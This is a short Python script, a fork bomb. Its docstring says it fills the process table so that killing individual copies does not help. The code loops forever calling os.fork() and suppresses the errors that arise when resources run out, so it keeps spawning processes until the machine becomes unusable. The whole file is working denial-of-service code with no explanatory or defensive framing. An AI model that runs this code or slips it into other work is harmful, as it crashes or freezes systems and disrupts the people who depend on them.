"""Fills the process table; each copy goes on, so that killing one of them does not help."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
